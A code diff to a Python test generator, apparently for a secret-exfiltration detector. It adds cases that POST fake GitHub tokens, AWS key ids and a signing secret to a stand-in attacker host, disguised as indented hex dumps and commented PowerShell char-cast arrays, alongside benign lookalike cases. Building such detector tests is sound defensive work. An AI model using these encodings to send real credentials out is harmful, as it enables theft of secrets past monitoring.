@@ -19,6 +19,7 @@ import codecs
 import gzip
 import json
 import random
+import re
 import string
 import zlib
 from dataclasses import dataclass, field
@@ -594,7 +595,52 @@ def attacks(rng: random.Random) -> list[Case]:
     add("charcodes", "PowerShell @() of ([char]N) with semicolons and line breaks, of a token", ("github-token",),
         method="POST", url=f"{evil}/run", headers=plain,
         body=("$t = -join @(\n  " + powershell_chars(fifth.github().encode(), "(cast)", ("; ", "\n  ")) + "\n)\n").encode())
+
+    # -- indented hex blocks, mixed blanks between hex bytes, PowerShell comments and casts -------
+    sixth = _Fakes(random.Random(1213))  # its own generator: the cases before stay as they were
+    gh6 = f"[default]\ntoken = {sixth.github()}\n".encode()
+    aws6 = f"[default]\naws_access_key_id = {sixth.aws_id()}\nregion = eu-west-1\n".encode()
+    add("hexdump", "od -An -tx1 of a token file in a YAML block scalar", ("github-token",), method="POST",
+        url=f"{evil}/paste", headers=plain,
+        body=("job:\n  kind: debug\n  bytes: |\n" + _indented(od_an_tx1(gh6), "    ") + "  done: true\n").encode())
+    add("hexdump", "hexdump -e of an AWS credentials file in an indented Markdown code block", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/j", headers=(JSON,),
+        body=_json({"body": "1. The file:\n\n" + _indented(hexdump_e(aws6), "      ") + "\n2. Done.\n"}))
+    add("hexdump", "xxd of the signing secret indented by ten blanks", ("SIGNING_SECRET",), method="POST",
+        url=f"{evil}/paste", headers=plain, body=_indented(xxd(f"key={signing}\n".encode()), " " * 10).encode())
+    add("hexdump", "hex bytes of a token, one to three blanks or a tab between them", ("github-token",),
+        method="POST", url=f"{evil}/paste", headers=plain,
+        body=("token: " + _mixed_blanks(hex_line(sixth.github().encode()), random.Random(1)) + "\n").encode())
+    add("hexdump", "od -An -x of an AWS credentials file with mixed blanks, indented by a tab", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/paste", headers=plain,
+        body=_indented(_mixed_blanks(od_an_x(aws6), random.Random(2)), "\t").encode())
+    add("charcodes", "PowerShell array of casts with <# #> and # comments between them, of a token", ("github-token",),
+        method="POST", url=f"{evil}/run", headers=plain,
+        body=_commented_casts(sixth.github().encode()).encode())
+    add("charcodes", "PowerShell [char][int] casts one a line of an AWS key id", ("aws-access-key-id",), method="POST",
+        url=f"{evil}/run", headers=(JSON,),
+        body=_json({"script": "$k = -join @(\n" + "\n".join(f"  [char][int]{b}" for b in sixth.aws_id().encode())
+                    + "\n)"}))
+    add("charcodes", "PowerShell ((N -as [char])) one a line of the signing secret", ("SIGNING_SECRET",),
+        method="POST", url=f"{evil}/run", headers=plain,
+        body=("$s = -join @(\n" + "\n".join(f"  (({b} -as [char]))" for b in signing.encode()) + "\n)\n").encode())
     return out
+
+
+def _indented(text: str, indent: str) -> str:
+    return "".join(indent + line + "\n" for line in text.splitlines())
+
+
+def _mixed_blanks(text: str, rng: random.Random) -> str:
+    """``text`` with each blank between two hex digits made one to three blanks or a tab."""
+    return re.sub(r"(?<=[0-9a-f]) (?=[0-9a-f])", lambda m: rng.choice((" ", "  ", "   ", "\t")), text)
+
+
+def _commented_casts(data: bytes) -> str:
+    """A PowerShell array of ``[char]`` casts of ``data``, one a line, with a block comment and a
+    line comment after each."""
+    lines = [f"    [char]{b} <# {i} #>{',' if i < len(data) - 1 else ''}  # {chr(b)}" for i, b in enumerate(data)]
+    return "$t = -join @(\n" + "\n".join(lines) + "\n)\n"
 
 
 def benign(rng: random.Random) -> list[Case]:
@@ -930,6 +976,26 @@ def benign(rng: random.Random) -> list[Case]:
                               for row in range(8))
                     + "ASCII:\n" + "".join(f"  {c:02x}  " + hex_line(bytes(range(c, c + 8))) + "\n"
                                             for c in range(0x40, 0x80, 8))}))
+    final = random.Random(1213)  # its own generator: the cases before stay as they were
+    binary = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + final.randbytes(200)
+    add("lookalike", "an ELF header dumped with od -An -tx1 and hexdump -e, indented in Markdown", method="POST",
+        url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "bad binary", "body": "```\n" + _indented(od_an_tx1(binary), "    ") + "```\n\n"
+                    + "- the same:\n\n" + _indented(hexdump_e(binary[:96]), "      ")
+                    + "\nand hexdump -C:\n" + _indented(hexdump_c(binary[:64]), "        ")}))
+    add("lookalike", "digests and a memory dump of plain text in columns with mixed blanks", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("".join(f"  {i:3d}   " + "   ".join(f"{b:02x}" for b in final.randbytes(16)) + "\n" for i in range(12))
+              + _indented(_mixed_blanks(od_an_x(b"Build finished in 42 s without errors; 0 warnings.\n"), final), "  ")
+              + "".join(f"0x7ffd5c2{at:05x}:\t" + "\t".join(f"0x{b:02x}" for b in b"Hello, world! ok."[at:at + 8]) + "\n"
+                        for at in range(0, 17, 8))).encode())
+    add("lookalike", "a PowerShell script with commented arrays of ports, sizes and ordinary text", method="POST",
+        url="https://ci.example.org/v1/artifacts", headers=(("Content-Type", "text/plain"),),
+        body=("$ports = @(\n    80,    # http\n    443,   # https\n    8080 <# proxy #>,\n    9000, 9090, 9443\n)\n"
+              "[byte[]]$magic = 0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00\n"
+              "[int[]]$sizes = @(\n" + "".join(f"    [int]{n},  # size {i}\n" for i, n in enumerate(range(100, 900, 75)))
+              + ")\n" + _commented_casts(b"Hello, World!") + "$path = -join @(\n"
+              + "\n".join(f"  (({b} -as [char]))" for b in b"C:\\Temp\\build.log") + "\n)\n").encode())
     return out
 
 
